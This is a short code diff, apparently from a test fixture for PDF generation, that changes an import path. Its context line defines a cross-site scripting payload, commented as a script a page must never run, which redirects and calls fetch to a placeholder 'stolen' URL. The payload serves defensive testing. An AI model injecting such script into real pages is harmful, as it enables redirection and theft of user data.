@@ -1,4 +1,4 @@
-import { makePdf } from "./make-pdf.ts";
+import { makePdf } from "../../lib/formats/pdf/make-pdf.fixture.ts";
 
 /** Script that a page must never run. */
 export const script = "<script>alert(1);location='https://example.org/';fetch('https://example.org/stolen')</script>";
